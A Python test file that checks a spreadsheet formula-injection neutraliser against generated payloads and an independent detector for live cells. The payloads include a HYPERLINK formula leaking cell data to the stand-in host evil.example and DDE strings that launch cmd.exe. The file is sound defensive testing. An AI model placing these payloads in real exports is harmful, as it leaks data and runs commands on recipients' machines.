"""The one neutraliser of every spreadsheet SCORE MIS writes (score_mis.formulas), against a list of payloads.

The payloads put every known formula trigger (= + - @, their full-width, small and super/subscript forms,
the minus sign, DDE calls, HYPERLINK) behind every kind of leading space, line break, control and
invisible character. `live_cells` and `live_csv_cells` look for what a spreadsheet would run in a
produced file, with a check written independently of the neutraliser.
"""

import csv
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from dataexchange.reading import clean_cell
from score_mis.formulas import neutralise

LEADERS = ["", " ", "   ", "\t", "\r", "\n", "\r\n", "\x00", "\x01", "\x08", "\x1b", "\x7f", "\x85", "\xa0"]
LEADERS += ["\u3000", "\u2028", "\u200b", "\u200e", "\u202e", "\u2066", "\ufeff", " \x01\t"]
TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "₌", "⁺", "₋", "−"]
BODIES = [
    "1+2",
    'HYPERLINK("http://evil.example/?leak="&A1,"Open the report")',
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
]
DDE_CALLS = ["cmd|' /C calc'!A0", "msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''"]

PAYLOADS = [leader + trigger + body for leader in LEADERS for trigger in TRIGGERS for body in BODIES]
PAYLOADS += [leader + call for leader in LEADERS for call in DDE_CALLS]
# A sample small enough to store as records: every leader and every trigger at least once.
STORED_PAYLOADS = [
    *(leader + TRIGGERS[n % len(TRIGGERS)] + BODIES[n % len(BODIES)] for n, leader in enumerate(LEADERS)),
    *(trigger + BODIES[n % len(BODIES)] for n, trigger in enumerate(TRIGGERS)),
    *DDE_CALLS,
]
# PostgreSQL text holds no NUL; names are unique per city.
STORED_PAYLOADS = [payload for payload in dict.fromkeys(STORED_PAYLOADS) if "\x00" not in payload]

_SKIPPED = re.compile(r"[\s\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]*")
_DDE = re.compile(r"\w+\|")


def runs_in_a_spreadsheet(text):
    visible = text[_SKIPPED.match(text).end() :]
    return visible[:1] in TRIGGERS or bool(_DDE.match(visible))


def live_cells(xlsx):
    """The cells of a workbook a spreadsheet would run: formulas, and text starting like one."""
    workbook = load_workbook(io.BytesIO(xlsx))  # not data_only: formulas are kept as formulas
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and runs_in_a_spreadsheet(cell.value))
    ]


def live_csv_cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if runs_in_a_spreadsheet(cell)]


def test_the_payloads_cover_every_leader_and_trigger():
    assert len(PAYLOADS) == len(LEADERS) * (len(TRIGGERS) * len(BODIES) + len(DDE_CALLS))
    assert all(runs_in_a_spreadsheet(payload) for payload in PAYLOADS)
    for part in {*LEADERS, *TRIGGERS} - {"", "\x00"}:
        assert any(part in payload for payload in STORED_PAYLOADS), repr(part)


def test_no_payload_survives_the_neutraliser():
    survivors = [
        payload
        for payload in PAYLOADS
        if not neutralise(payload).startswith("'") or runs_in_a_spreadsheet(neutralise(payload))
    ]

    assert survivors == []


def test_a_leading_control_character_cannot_revive_a_formula_when_it_is_dropped():
    assert neutralise("\x01=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", ["-5", "+3.5", ".5", -5, Decimal("-2.5"), "Deyang", "a=b", "1+1", "", None])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert neutralise(value) == value


def test_a_neutralised_cell_reads_back_as_the_text_it_was():
    changed = [payload for payload in PAYLOADS if clean_cell(neutralise(payload)) != clean_cell(payload)]

    assert changed == []
